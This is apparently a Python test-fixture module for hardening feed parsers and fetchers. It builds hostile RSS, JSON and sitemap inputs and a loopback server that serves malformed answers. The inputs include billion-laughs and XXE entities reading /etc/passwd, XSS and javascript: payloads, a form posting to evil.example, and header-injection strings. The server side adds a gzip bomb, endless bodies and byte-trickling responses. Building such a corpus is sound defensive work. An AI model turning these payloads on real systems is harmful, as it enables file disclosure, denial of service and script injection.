"""Feeds and servers as an attacker would make them, in the sizes at which parsers and fetchers are known to break."""

from __future__ import annotations

import gzip
import itertools
import json
import socket
import threading
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from types import TracebackType
from typing import Any

MB = 1024 * 1024

Make = Callable[[], bytes]


def rss(*items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>', attributes: str = "") -> bytes:
    """Return a feed of these items."""
    return (
        f'{head}<rss version="2.0" {attributes}><channel><title>Harbour Post</title><link>http://post.example/</link>'
        f"{''.join(items)}</channel></rss>"
    ).encode()


def item(title: str = "A title", inner: str = "", link: str = "http://post.example/1") -> str:
    """Return an item with these parts as they are."""
    return f"<item><title>{title}</title><link>{link}</link>{inner}</item>"


def described(html: str) -> str:
    """Return an item with this description."""
    return item(inner=f"<description><![CDATA[{html}]]></description>")


def laughs() -> bytes:
    """Return an entity of ten of ten of ten ..."""

    def references(number: int) -> str:
        return f"&a{number};" * 10

    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{references(n - 1)}">' for n in range(1, 12))
    return rss(item("&a11;"), head=f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]>')


def quadratic(size: int) -> bytes:
    """Return a long entity, referred to very often."""
    head = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{size * chr(120)}">]>'
    return rss(item("&a;" * (size // 3)), head=head)


def external(target: str) -> bytes:
    """Return an entity that is somebody else's file."""
    return rss(item("&e;"), head=f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "{target}">]>')


def tiny_items(size: int) -> bytes:
    """Return as many empty items as fit."""
    return rss("<item/>" * (size // 7))


def attributes(count: int) -> bytes:
    """Return one element with very many attributes."""
    listed = " ".join(f'a{n}="1"' for n in range(count))
    return rss(f"<item {listed}><title>x</title></item>")


def namespaces(count: int) -> bytes:
    """Return a root with very many namespaces."""
    return rss(item(), attributes=" ".join(f'xmlns:n{n}="http://n{n}.example/"' for n in range(count)))


def repeated(element: str, count: int) -> bytes:
    """Return an item with the same element again and again."""
    return rss(item(inner="".join(f"<{element}>{element}{n}</{element}>" for n in range(count))))


def encoded(name: str) -> bytes:
    """Return a feed that claims to be in an odd encoding."""
    return rss(item("caf&#233;"), head=f'<?xml version="1.0" encoding="{name}"?>')


def json_feed(**more: Any) -> bytes:
    """Return a JSON feed with these oddities."""
    entries = [{"id": "1", "url": "http://post.example/1", "title": "A title", "content_text": "x"}]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": entries} | more).encode()


def sitemap(count: int, head: str = "") -> bytes:
    """Return a news sitemap."""
    url = (
        "<url><loc>http://post.example/{0}</loc><n:news><n:publication><n:name>P</n:name><n:language>en</n:language>"
        "</n:publication><n:publication_date>2026-03-01</n:publication_date><n:title>T {0}</n:title></n:news></url>"
    )
    return (
        f'<?xml version="1.0"?>{head}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
        f' xmlns:n="http://www.google.com/schemas/sitemap-news/0.9">{"".join(map(url.format, range(count)))}</urlset>'
    ).encode()


# The ones that parsers of the day took seconds, gigabytes or exceptions for, each in the size at which they did.
HEAVY: dict[str, Make] = {
    "entities: billion laughs": laughs,
    "entities: quadratic": lambda: quadratic(55_000),
    "title of 10 MB": lambda: rss(item("x" * 10 * MB)),
    "title of 100 MB": lambda: rss(item("x" * 100 * MB)),
    "items, 10 MB": lambda: tiny_items(10 * MB),
    "items, 100 MB": lambda: tiny_items(100 * MB),
    "attributes, 5,000": lambda: attributes(5_000),
    "attributes, 10,000": lambda: attributes(10_000),
    "attributes, 20,000": lambda: attributes(20_000),
    "attributes, 100,000": lambda: attributes(100_000),
    "categories, 5,000": lambda: repeated("category", 5_000),
    "categories, 10,000": lambda: repeated("category", 10_000),
    "categories, 100,000": lambda: repeated("category", 100_000),
    "authors, 100,000": lambda: repeated("author", 100_000),
    "comments, 10,000": lambda: rss(described("<!--" * 10_000)),
    "comments, 20,000": lambda: rss(described("<!--" * 20_000)),
    "comments, 40,000": lambda: rss(described("<!--" * 40_000)),
    "comments, 250,000": lambda: rss(described("<!--" * 250_000)),
    "less-than signs, 5 MB": lambda: rss(described("<" * 5 * MB)),
    "ampersands, 5 MB": lambda: rss(item("&amp;" * MB)),
    "tag soup, 5 MB": lambda: rss(described("<b><i><p></b><table><a href=x>" * (5 * MB // 30))),
    "relative links, 100,000": lambda: rss(described('<a href="x/y">z</a>' * 100_000)),
    "XML a million deep": lambda: rss("<item>" + "<a>" * 1_000_000),
    "closed XML 100,000 deep": lambda: rss(item(inner="<a>" * 100_000 + "</a>" * 100_000)),
    "HTML 100,000 deep": lambda: rss(described("<div>" * 100_000)),
    "namespaces, 50,000": lambda: namespaces(50_000),
    "unclosed CDATA, 100,000": lambda: rss(item(inner="<description><![CDATA[" * 100_000)),
    "processing instructions, 500,000": lambda: rss("<?a?>" * 500_000),
    "doctype of 5 MB": lambda: rss(item(), head=f"<!DOCTYPE rss [{'<!ENTITY a 1>' * 400_000}]>"),
    "comments never closed, 5 MB": lambda: rss("<!-- " * MB),
    "date of 1 MB": lambda: rss(item(inner=f"<pubDate>{'1 Mon, ' * 150_000}</pubDate>")),
    "guid of 5 MB": lambda: rss(item(inner=f"<guid>{'http://' * 700_000}</guid>")),
    "link of 5 MB": lambda: rss(item(link="http://post.example/?" + "a=1&amp;" * 600_000)),
    "combining marks, 5 MB": lambda: rss(item("\u0345\u0301" * 1_250_000)),
    "NFC at its worst, 5 MB": lambda: rss(item(inner="<description>" + "\u0958\ufb2c" * 850_000)),
    "JSON a million deep": lambda: b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 1_000_000,
    "JSON, 300,000 items": lambda: json_feed(items=[{"id": str(n)} for n in range(300_000)]),
    "sitemap, 50,000 pages": lambda: sitemap(50_000),
    "zeros, 15 MB": lambda: bytes(15 * MB),
    "one line of spaces, 15 MB": lambda: b"<rss>" + b" " * 15 * MB,
}  # fmt: skip

# Small ones, whose danger is in what they say.
SLY: dict[str, Make] = {
    "entities: a file": lambda: external("file:///etc/passwd"),
    "entities: a page": lambda: external("http://127.0.0.1:9/"),
    "entities: parameter": lambda: rss(
        item(), head='<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'
    ),
    "sitemap: a file": lambda: sitemap(1, '<!DOCTYPE urlset [<!ENTITY e SYSTEM "file:///etc/passwd">]>').replace(
        b"T 0", b"&e;"
    ),
    **{
        f"encoding {name[:20]}": lambda name=name: encoded(name)  # type: ignore[misc]
        for name in ("punycode", "utf-7", "unicode_escape", "idna", "rot13", "zlib_codec", "hex", "undefined", "utf-32",
                     "mbcs", "x" * 10_000, "../../etc/passwd", "")
    },
    "NUL": lambda: rss(item("a\x00b")),
    "escape sequences": lambda: rss(item("a\x1b[31mred\x1b]0;title\x07")),
    "bidi controls": lambda: rss(item("safe \u202egnp.exe\u202c \u2066x\u2069")),
    "script in a title": lambda: rss(item("&lt;script&gt;alert(1)&lt;/script&gt;Peace")),
    "image in a title": lambda: rss(item("&lt;img src=x onerror=alert(1)&gt;Peace")),
    "bold and script": lambda: rss(item("&lt;b&gt;x&lt;/b&gt;&lt;script&gt;1&lt;/script&gt;")),
    "form in a summary": lambda: rss(described('<form action="http://evil.example"><input name=p></form>')),
    "javascript: link": lambda: rss(item(link="javascript:alert(1)")),
    "data: guid": lambda: rss(item(inner="<guid>data:text/html,x</guid>")),
    "file: link": lambda: rss(item(link="file:///etc/passwd")),
    "link with line ends": lambda: rss(item(link="http://post.example/&#13;&#10;X: y")),
    "chat control text": lambda: rss(item("&lt;!channel&gt; &lt;@U1&gt; &lt;http://evil.example|bank.example&gt;")),
    "mail header": lambda: rss(item("Peace&#13;&#10;Bcc: victim@example.org")),
    "surrogates": lambda: rss(item("half &#xD83D; a face")),
    "number too large": lambda: rss(item("&#99999999999999999999;")),
    "lone xml:base": lambda: rss(item(), attributes='xml:base="http://["'),
    "JSON numbers": lambda: json_feed(items=[{"id": int("9" * 4_000), "title": 1e308, "url": None}]),
    "JSON surrogates": lambda: json_feed(title="x").replace(b"A title", b"half \\ud83d a face"),
    "JSON odd types": lambda: json_feed(items=[1, None, [], {"id": {}}, {"authors": "x"}]),
    "nothing": lambda: b"",
    "spaces": lambda: b" \n\t ",
    "noise": lambda: bytes(range(256)) * 64,
    "a page": lambda: b"<!DOCTYPE html><html><head><title>Welcome</title></head><body><p>Hi</body></html>",
    "half a feed": lambda: rss(*(item(f"Title {n}") for n in range(20)))[:700],
    "gzip inside": lambda: gzip.compress(rss(item())),
    "half of UTF-16": lambda: encoded("utf-16").decode().encode("utf-16")[:-1],
    "byte order marks": lambda: b"\xef\xbb\xbf" * 1_000 + rss(item()),
}  # fmt: skip

DOCUMENTS = HEAVY | SLY


class Server:
    """A server on loopback that answers every connection with the same pieces; a number is a pause in seconds.

    Use it as a context manager; it gives the URL. Afterwards the connection stays open until the client leaves.
    """

    def __init__(self, pieces: Iterable[bytes | float], *, stays: bool = False) -> None:
        self._pieces = pieces
        self._stays = stays
        self._stopped = threading.Event()
        self._threads: list[threading.Thread] = []
        self._server = socket.create_server(("127.0.0.1", 0))

    def __enter__(self) -> str:
        self._start(self._accept)
        return f"http://127.0.0.1:{self._server.getsockname()[1]}/"

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._stopped.set()
        self._server.shutdown(socket.SHUT_RDWR)
        for thread in tuple(self._threads):
            thread.join(5)
        self._server.close()

    def _start(self, target: Callable[..., None], *arguments: object) -> None:
        thread = threading.Thread(target=target, args=arguments, daemon=True)
        self._threads.append(thread)
        thread.start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._server.accept()
                self._start(self._answer, connection)

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(5)
            connection.recv(65_536)
            for piece in self._pieces:
                if self._stopped.is_set():
                    return
                if isinstance(piece, bytes):
                    connection.sendall(piece)
                else:
                    self._stopped.wait(piece)
            if self._stays:
                self._stopped.wait()


def trickle(said: bytes, *, every_s: float) -> list[bytes | float]:
    """Return an answer of which one byte comes at a time."""
    return list(itertools.chain.from_iterable((said[n : n + 1], every_s) for n in range(len(said))))


def endless(head: bytes = b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n<rss>") -> Iterator[bytes]:
    """Yield a body that does not end."""
    yield head
    while True:
        yield b"<item><title>x</title></item>" * 2_000


def gzip_bomb(size: int) -> list[bytes]:
    """Return an answer whose body is `size` zeros once decompressed."""
    packed = gzip.compress(bytes(size))
    head = "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: text/xml\r\nContent-Length: {}\r\n\r\n"
    return [head.format(len(packed)).encode(), packed]


def one_byte_chunks(count: int) -> list[bytes]:
    """Return an answer in chunks of one byte."""
    return [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * count, b"0\r\n\r\n"]


def early_hints() -> Iterator[bytes]:
    """Yield answers that announce the answer, for ever."""
    while True:
        yield b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" * 100
        yield b""
